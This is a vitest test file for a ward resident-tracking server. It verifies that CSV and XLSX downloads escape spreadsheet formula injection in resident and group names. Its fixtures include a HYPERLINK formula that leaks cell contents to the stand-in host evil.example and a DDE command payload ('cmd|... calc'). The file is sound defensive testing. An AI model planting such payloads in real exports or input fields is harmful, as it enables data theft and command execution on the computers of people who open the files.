// Spreadsheet formula injection (docs/privacy.md H2): names and group names a person typed that a
// spreadsheet would run as a formula (=HYPERLINK(…), +…, -…, @…) come out of the downloads as text. The
// not-reached list and the coverage table are downloaded through the API for a group of such residents;
// the CSV is parsed back (such cells carry a leading apostrophe, a phone number does not) and the XLSX is
// read back with exceljs (every text is a string cell, never a formula). Tab and CR, which no stored name
// can start with, are checked on the CSV writer itself.
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { PlainDoc } from '../../../src/shared';
import { tableToCsv } from '../../../src/server/reports/coverage-csv';
import { FIRST_BODY_ROW } from '../../../src/server/reports/coverage-xlsx';
import { seedWard, type SqlStore } from '../../../src/server/store';
import {
  authHeaders,
  makeResident,
  nextWardCode,
  openTestStore,
  startTestServer,
  type TestServer,
} from '../../helpers/server';

const DATE = '2026-11-23';
const GROUP_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Tổ 1")';

/** Names that a spreadsheet would run, and ordinary ones next to them. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example","bấm vào đây")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|calc',
  '-2+3 Hoà',
  '@SUM(A1:A9)',
  '=1+1',
];
const PLAIN_NAMES = ['Nguyễn Thị Hoà', 'Trần Văn An'];

let store: SqlStore;
let server: TestServer;
let ward: string;
let officer: Record<string, string>;

beforeAll(async () => {
  store = await openTestStore();
  server = await startTestServer({ store });
  ward = nextWardCode();
  await seedWard(store, { code: ward, name: 'Phường Thử', provinceCode: '01' }, [
    { id: 'g1', wardCode: ward, name: GROUP_NAME, kind: 'to_dan_pho' },
  ]);
  officer = authHeaders(await server.officerToken(ward));
  const contact = {
    purpose: 'contact',
    askedBy: 'Trần Văn Tư',
    date: '2026-01-02',
    method: 'verbal',
    wordingVersion: 'v1',
  };
  const residents: PlainDoc[] = [...FORMULA_NAMES, ...PLAIN_NAMES].map((fullName, i) =>
    makeResident(ward, 'g1', { fullName, birthYear: 1960 + i }),
  );
  const withPhone = makeResident(ward, 'g1', {
    fullName: 'Lê Văn Số',
    birthYear: 1970,
    phone: '+84912345678',
    consents: [...(makeResident(ward).consents as PlainDoc[]), contact],
  });
  const answer = await server.push(
    ward,
    [...residents, withPhone].map((newDocumentState) => ({ newDocumentState })),
  );
  expect(answer.quarantined).toEqual([]);
});

afterAll(async () => {
  await server.close();
  await store.close();
});

async function download(path: string) {
  const res = await server.app.inject({
    method: 'GET',
    url: `/v1/wards/${ward}/${path}?date=${DATE}`,
    headers: officer,
  });
  expect(res.statusCode).toBe(200);
  return res.rawPayload;
}

function csvRows(payload: Buffer): string[][] {
  const text = payload.toString('utf8').replace(/^\uFEFF/, '');
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

async function sheetOf(payload: Buffer): Promise<ExcelJS.Worksheet> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(payload as unknown as ArrayBuffer);
  const sheet = book.worksheets[0];
  if (sheet === undefined) throw new Error('no worksheet');
  return sheet;
}

/** Every cell of the sheet that is a formula (there must be none). */
function formulaCells(sheet: ExcelJS.Worksheet): string[] {
  const found: string[] = [];
  sheet.eachRow((row) =>
    row.eachCell((cell) => {
      if (cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined) found.push(cell.address);
    }),
  );
  return found;
}

describe("the not-reached list of a group whose residents' names are formulas", () => {
  test('CSV: each formula name is prefixed with an apostrophe, plain names and the phone are not', async () => {
    const [header, ...rows] = csvRows(await download('groups/g1/not-reached.csv'));
    expect(header?.[1]).toBe('Họ và tên');
    const names = rows.map((r) => r[1]);
    expect(names).toEqual(expect.arrayContaining([...FORMULA_NAMES.map((n) => `'${n}`), ...PLAIN_NAMES]));
    expect(names).toHaveLength(FORMULA_NAMES.length + PLAIN_NAMES.length + 1);
    // A number with a sign is a number, never a formula: a phone stays as typed.
    expect(rows.find((r) => r[1] === 'Lê Văn Số')?.[4]).toBe('+84912345678');
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@\t\r]|^[+-](?!\d+$)/);
  });

  test('XLSX: every name is a string cell holding exactly the name, no cell is a formula', async () => {
    const sheet = await sheetOf(await download('groups/g1/not-reached.xlsx'));
    expect(formulaCells(sheet)).toEqual([]);
    const names: unknown[] = [];
    for (let r = FIRST_BODY_ROW; r <= sheet.rowCount; r += 1) {
      const cell = sheet.getCell(r, 2);
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      names.push(cell.value);
    }
    expect(names).toEqual(expect.arrayContaining([...FORMULA_NAMES, ...PLAIN_NAMES]));
    expect(String(sheet.getCell(1, 1).value)).toContain(GROUP_NAME);
  });
});

describe('the coverage table of a ward whose group is named with a formula', () => {
  test('CSV: the group name is prefixed', async () => {
    const [, ...rows] = csvRows(await download('coverage.csv'));
    expect(rows.map((r) => r[0])).toContain(`'${GROUP_NAME}`);
  });

  test('XLSX: the group name is a string cell, no cell is a formula', async () => {
    const sheet = await sheetOf(await download('coverage.xlsx'));
    expect(formulaCells(sheet)).toEqual([]);
    const first = sheet.getCell(FIRST_BODY_ROW, 1);
    expect(first.type).toBe(ExcelJS.ValueType.String);
    expect(first.value).toBe(GROUP_NAME);
  });
});

describe('the CSV writer on what no stored name can hold', () => {
  test('cells starting with =, +, -, @, tab or CR get the apostrophe; numbers and signed digits do not', () => {
    const cells = ['=1', '+x', '-x', '@x', '\tx', '\rx', '+84912345678', '-5', 'a=1'];
    const csv = tableToCsv({
      sheetName: 's',
      title: ['', '', ''],
      header: cells.map((_c, i) => `c${i}`),
      rows: [cells, [1, -2, 3.5, null, 0, 0, 0, 0, 0]],
      totals: null,
      percentColumns: [],
      widths: [],
    });
    const [, written, numbers] = csvRows(Buffer.from(csv, 'utf8'));
    expect(written).toEqual(["'=1", "'+x", "'-x", "'@x", "'\tx", "'\rx", '+84912345678', '-5', 'a=1']);
    expect(numbers?.slice(0, 4)).toEqual(['1', '-2', '3.5', '']);
  });
});
